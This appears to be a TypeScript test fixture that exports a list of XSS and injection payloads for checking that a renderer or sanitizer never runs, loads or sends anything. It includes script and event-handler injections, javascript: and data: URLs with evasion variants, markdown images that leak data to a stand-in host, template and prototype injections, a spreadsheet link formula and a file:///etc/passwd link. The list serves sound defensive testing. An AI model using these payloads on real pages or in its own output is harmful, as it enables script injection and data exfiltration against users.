const RUN = 'window.hacked=1';
const ELSEWHERE = 'https://evil.example';

const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<script src="${ELSEWHERE}/a.js"></script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `</td></tr></table><script>${RUN}</script>`,
  `<iframe src="${ELSEWHERE}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="${ELSEWHERE}/x.swf"></object>`,
  `<embed src="${ELSEWHERE}/x.svg">`,
  `<link rel="stylesheet" href="${ELSEWHERE}/a.css">`,
  `<link rel="prefetch" href="${ELSEWHERE}/p">`,
  `<base href="${ELSEWHERE}/">`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
  `<form action="${ELSEWHERE}"><button autofocus>go</button></form>`,
  `<style>body{display:none}</style>`,
  `<style>@import url(${ELSEWHERE}/a.css);</style>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><image href="${ELSEWHERE}/i.png"/></svg>`,
  `<svg><use href="${ELSEWHERE}/i.svg#a"/></svg>`,
  `<svg><foreignObject><iframe src="${ELSEWHERE}"></iframe></foreignObject></svg>`,
  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><img src=x onerror=${RUN}></noscript>`,
  `<textarea></textarea><script>${RUN}</script>`,
  `<title></title><script>${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml version="1.0"?><script>${RUN}</script>`,
  `<plaintext>`,
  `<dialog open>hello</dialog>`,
];

const HANDLERS = ['img src=x onerror', 'img src=x onload', 'body onload', 'svg onload', 'input autofocus onfocus', 'details open ontoggle', 'video src=x onerror', 'audio src=x onerror', 'a onmouseover', 'div onpointerenter', 'marquee onstart', 'select autofocus onfocus', 'b onclick'].map(
  (start) => `<${start}="${RUN}">x`,
);

const LOADS = ['img src', 'img srcset', 'video poster', 'audio src', 'source src', 'track src', 'input type=image src', 'body background', 'table background', 'script src', 'frame src', 'object data', 'applet code'].map(
  (start) => `<${start}="${ELSEWHERE}/load?rows=secret">`,
);

const LINKS = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `&#106;avascript:${RUN}`,
  `%6Aavascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+`,
  `vbscript:${RUN}`,
  `blob:${ELSEWHERE}/1`,
  `file:///etc/passwd`,
  `//evil.example/p`,
].flatMap((url) => [`[click](${url})`, `![see](${url})`]);

const MARKDOWN = [
  `![chart](${ELSEWHERE}/leak.png?rows=secret)`,
  `![a][evil]\n\n[evil]: ${ELSEWHERE}/leak.png`,
  `[![x](${ELSEWHERE}/a.png)](javascript:${RUN})`,
  `<javascript:${RUN}>`,
  `<${ELSEWHERE}/auto>`,
  '```html\n<script>window.hacked=1</script>\n```',
  '```"><script>window.hacked=1</script>\nx\n```',
  '`<script>window.hacked=1</script>`',
  '| <script>window.hacked=1</script> | b |\n|---|---|\n| <img src=x onerror=window.hacked=1> | 2 |',
  '$$\\href{javascript:window.hacked=1}{x}$$',
];

const CHARACTERS = [
  'bidi \u202Egnp.exe\u202C end',
  '\u2066isolated\u2069',
  'zero\u200Bwidth\u2060and\uFEFFbom',
  '\u0007bell\u001B[31mred',
  'Z\u0351\u036B\u0343\u036A\u0302a\u0336\u0337l\u0310g\u031Ao',
  '{{constructor.constructor("window.hacked=1")()}}',
  '${window.hacked=1}',
  "';window.hacked=1;//",
  '"><script>window.hacked=1</script>',
  '=HYPERLINK("https://evil.example","x")',
  '__proto__',
  `${'W'.repeat(4_000)}`,
];

/** What must never run, load or send anything, wherever it comes from. */
export const PAYLOADS: readonly string[] = [
  ...ELEMENTS,
  ...HANDLERS,
  ...LOADS,
  ...LINKS,
  ...MARKDOWN,
  ...CHARACTERS,
];
